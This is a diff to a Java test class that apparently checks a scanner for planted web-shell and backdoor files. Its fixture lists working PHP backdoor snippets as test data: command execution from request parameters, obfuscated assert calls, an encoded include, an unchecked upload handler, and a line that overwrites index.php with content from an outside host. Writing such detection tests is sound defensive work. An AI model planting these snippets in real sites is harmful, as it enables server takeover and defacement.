@@ -26,6 +26,9 @@ final class PlantedFilesTest {
           "<?php $f=$_GET['f']; $a=$_GET['a']; $f($a) ?>",
           "<?php array_udiff_assoc(array($_REQUEST['p']), array(1), \"assert\");",
           "<?php $a=('!'^'@').'ssert'; $b='_'.'POST'; $c=$$b; $a($c['x']);",
+          "<?php @include(base64_decode('L3RtcC94LmljbyI='));",
+          "<?php include 'wp-content/uploads/2024/logo.png';",
+          "<?php $ext=pathinfo($_FILES['b']['name'],4); if($ext!='x') move_uploaded_file($_FILES['b']['tmp_name'], getcwd().'/'.$_FILES['b']['name']);",
           "<?php system('chattr -i .htaccess'); @unlink('.htaccess');",
           "<?php file_put_contents('index.php', file_get_contents('https://kue.example.org/a.txt'));",
           "<?php if($_POST['src']) file_put_contents($_POST['fn'],$_POST['src']);",
@@ -90,7 +93,8 @@ final class PlantedFilesTest {
 
   @Test
   void scan_mapOfHeadlines_isNoDoorway() throws IOException {
-    String told = "<urlset><url><loc>https://pn-contoh.go.id/penyuluhan-slot-gacor</loc></url></urlset>";
+    String told =
+        "<urlset><url><loc>https://pn-contoh.go.id/penyuluhan-slot-gacor</loc></url></urlset>";
     var signals = scanned("sitemap.xml", told).signals();
     assertFalse(signals.stream().anyMatch(at -> at.id().equals("gambling-in-sitemap")));
     expect(Verdict.CRITICAL, "sitemap.xml", told.replace("penyuluhan-", "x-"));
